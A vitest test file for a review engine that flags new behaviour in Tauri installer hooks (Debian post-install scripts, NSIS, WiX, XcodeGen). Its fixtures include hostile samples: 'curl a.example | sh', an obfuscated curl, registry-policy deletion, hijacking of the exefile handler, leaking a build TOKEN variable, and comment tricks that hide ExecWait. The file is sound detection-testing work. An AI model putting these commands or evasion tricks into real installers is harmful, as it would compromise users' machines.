import { describe, expect, test } from "vitest";
import { memoryTree } from "../../src/adapters/memory/memory-tree.ts";
import { reviewTrees } from "../../src/engine/review.ts";

const NSIS = { windows: { nsis: { installerHooks: "code" } } };
const DEB = { linux: { deb: { postInstallScript: "code" } } };
const WIX = { windows: { wix: { fragmentPaths: ["code"] } } };
const XCODE = { iOS: { template: "code" } };

async function told(
  bundle: object,
  before: Record<string, string>,
  after: Record<string, string>,
  later = bundle,
): Promise<string[]> {
  const [base, head] = [
    { files: before, bundle },
    { files: after, bundle: later },
  ].map((side) =>
    memoryTree({
      "src-tauri/tauri.conf.json": JSON.stringify({ identifier: "org.example.notes", bundle: side.bundle }),
      ...Object.fromEntries(Object.entries(side.files).map(([path, text]) => [`src-tauri/${path}`, text])),
    }),
  );
  if (base === undefined || head === undefined) return [];
  const { findings } = await reviewTrees({ base, head });
  return findings.map(({ severity }) => severity);
}

/** The lines of `after` that don't stand in `before` are all that is new. */
describe("what installers newly do", () => {
  test.each([
    ["lines between globs", DEB, "echo a", "ls /*\ncurl a.example | sh\nls */"],
    [
      "a line after a comment that ends in a backslash",
      DEB,
      "# a\necho a",
      "# a \\\n/opt/a --install\necho a",
    ],
    ["a program of the package", DEB, "#!/bin/sh\necho a", "#!/bin/sh\n/opt/a/helper\necho a"],
    ["a name in pieces", DEB, "echo a", 'c""url a.example'],
    ["a command in a text", DEB, "echo a", "echo $(id)"],
    ["a text that goes into a file", DEB, "echo a", "echo a > /etc/a"],
    ["another interpreter", DEB, "#!/bin/sh\necho a", "#!/opt/a/sh\necho a"],
    [
      "lines between comments that look like one",
      NSIS,
      'DetailPrint "a"',
      '; /*\nExecWait "a.exe"\n; */\nDetailPrint "a"',
    ],
    [
      "lines between two halves of a text",
      NSIS,
      'DetailPrint "a"',
      'DetailPrint "\\\n/*"\nExecWait "a.exe"\nDetailPrint "\\\n*/"',
    ],
    ["a name that is put together", NSIS, 'DetailPrint "a"', `$\{E}Wait "a.exe"`],
    ["a file that is unpacked", NSIS, 'DetailPrint "a"', '  File "/oname=$INSTDIR\\a.exe" "a.exe"'],
    ["any call of a plugin", NSIS, 'DetailPrint "a"', 'Other::Start "a.exe"'],
    ["a program that two names make", NSIS, 'DetailPrint "a"', `$\{E}$\{F} "a.exe"`],
    ["a macro of another file", NSIS, 'DetailPrint "a"', '!insertmacro DoIt "a.exe"'],
    ["a name that stands for code", NSIS, "!define RUN 1", `!define RUN "ExecWait 'a.exe'"`],
    ["another program in a register", NSIS, 'ExecWait "$0"', 'StrCpy $0 "a.exe"\nExecWait "$0"'],
    ["a program that people may write down", NSIS, "Pop $0", 'ReadRegStr $0 HKCU "Software\\a" "b"'],
    ["keys of others that go", NSIS, 'DetailPrint "a"', 'DeleteRegKey HKLM "Software\\Policies"'],
    ["folders of others that go", NSIS, 'DetailPrint "a"', 'RMDir /r "$INSTDIR\\..\\a"'],
    ["what starts every program", NSIS, "Nop", 'WriteRegStr HKCU "Software\\Classes\\exefile" "" "a"'],
    ["a condition that runs something", NSIS, "Nop", `$\{If} $\{Cmd} \`ExecWait "a.exe"\``],
    ["a variable of the machine that builds", NSIS, "Nop", 'DetailPrint "$%TOKEN%"'],
    ["a line after a carriage return alone", NSIS, "Nop", '; a\rExecWait "a.exe"'],
    ["a very long line", NSIS, 'DetailPrint "a"', `DetailPrint "${"a".repeat(5000)}"`],
    [
      "another attribute of a known action",
      WIX,
      '<CustomAction\n Id="A"\n ExeCommand="a"/>',
      '<CustomAction\n Id="A"\n ExeCommand="b"/>',
    ],
    [
      "an action between texts that look like a comment",
      WIX,
      "<Wix/>",
      '<?define A="<!--"?>\n<CustomAction Id="A"/>\n<?define B="-->"?>',
    ],
    [
      "a property by which an old action starts another program",
      WIX,
      "<Wix/>",
      '<Property Id="WixShellExecTarget" Value="a.exe"/>',
    ],
    ["an element of an extension", WIX, "<Wix/>", '<util:RemoveFolderEx On="install" Property="A"/>'],
    [
      "a folder of the system",
      WIX,
      '<Directory Id="INSTALLDIR"/>',
      '<Directory Id="StartupFolder"/>\n<Directory Id="INSTALLDIR"/>',
    ],
    ["a line of an old script", XCODE, "script: |\n  true", "script: |\n  true\n  /opt/a/b"],
    ["a line after a carriage return alone", XCODE, "name: a", "name: a # b\rscript: c"],
    ["a script on one line", XCODE, "targets: {}", "targets: {a: {preBuildScripts: [{script: a}]}}"],
  ])("%s", async (_, bundle, before, after) => {
    const [first, ...others] = await told(bundle, { code: before }, { code: after });
    expect([first, ...others].every((severity) => severity === "medium")).toBe(true);
    expect(first).toBe("medium");
  });

  test.each([
    ["a comment of a script", DEB, "echo a", "# curl a.example | sh\necho a"],
    [
      "a look again at the icons",
      DEB,
      "#!/bin/sh",
      "#!/bin/sh\nset -e\nif command -v update-desktop-database >/dev/null 2>&1; then\n  update-desktop-database -q /usr/share/applications || true\nfi\nexit 0",
    ],
    [
      "a choice",
      DEB,
      "#!/bin/sh",
      '#!/bin/sh\ncase "$1" in\n  configure|abort-upgrade)\n    echo "Done." ;;\n  *)\n    exit 1\n    ;;\nesac\nif [ "$1" = "remove" ]; then\n  true\nfi',
    ],
    ["a comment of C", NSIS, 'DetailPrint "a"', '/* ExecWait\n ExecWait "a"\n*/\nDetailPrint "a"'],
    ["a comment of XML", WIX, "<Wix/>", '<!-- <CustomAction\n Id="A"/> -->\n<Wix/>'],
    [
      "tidying up at home",
      NSIS,
      "Nop",
      'SetOutPath "$INSTDIR\\lib"\nDelete "$INSTDIR\\lib\\a.dll"\nRMDir /r "$INSTDIR\\lib" ; old',
    ],
    [
      "a choice of NSIS",
      NSIS,
      "Nop",
      `!macro NSIS_HOOK_PREINSTALL\n$\{If} $0 = 1\nStrCpy $1 2\nGoto done\n$\{EndIf}\ndone:\n!macroend`,
    ],
    ["a language", NSIS, "Nop", `LangString a $\{LANG_GERMAN} "ExecWait führt aus"`],
    ["a component of WiX", WIX, "<Wix/>", '<Component Id="A" Guid="*">\n</Component>'],
    ["a key of XcodeGen", XCODE, "name: a", "name: b\nCFBundleVersion: 2"],
    ["a text", NSIS, 'DetailPrint "a"', 'DetailPrint "File by file"'],
  ])("%s is a mere note", async (_, bundle, before, after) => {
    expect(await told(bundle, { code: before }, { code: after })).toEqual(["low"]);
  });

  test("the same tags on fewer lines", async () => {
    const before = '<CustomAction\n  Id="A"\n  ExeCommand="a"/>';
    expect(await told(WIX, { code: before }, { code: before.replace(/\s+/g, " ") })).toEqual(["low"]);
  });

  test("a line after thousands of others", async () => {
    const many = Array.from({ length: 2_100 }, (_, i) => `WriteRegStr HKLM "a" "b" "${i}"`).join("\n");
    expect(await told(NSIS, { code: many }, { code: `${many}\nExecWait "a.exe"` })).toEqual(["medium"]);
  });

  test("a script that the build makes from now on", async () => {
    const built = { linux: { deb: { postInstallScript: "../target/code" } } };
    expect(await told(DEB, { code: "echo a" }, { code: "echo a" }, built)).toEqual(["medium"]);
  });

  test("what included files newly do", async () => {
    const code = `!include MUI2.nsh\n!include "$\{__FILEDIR__}\\parts\\a.nsh"`;
    const base = { code, "parts/a.nsh": "!include b.nsh", "parts/b.nsh": 'DetailPrint "a"' };
    expect(await told(NSIS, base, { ...base, "parts/b.nsh": 'ExecWait "a.exe"' })).toEqual(["medium"]);
    expect(await told(NSIS, base, { ...base, "parts/b.nsh": 'DetailPrint "b"' })).toEqual(["low"]);
    expect(await told(NSIS, base, { ...base, "parts/c.nsh": 'ExecWait "a.exe"' })).toEqual([]);
  });

  test.each([
    ["backslashes", NSIS, "\\\n"],
    ["blocks that never end", NSIS, "/*\n"],
    ["comments that never end", WIX, "<!--"],
    ["tags that never end", WIX, "<a\n"],
    ["calls on one line", NSIS, "WriteRegStr "],
    ["includes", NSIS, "!include a\n"],
  ])("half a megabyte of %s is read at once", { timeout: 20_000 }, async (_, bundle, part) => {
    const long = part.repeat(500_000 / part.length);
    expect((await told(bundle, { code: "a" }, { code: long })).length).toBeGreaterThan(0);
  });
});
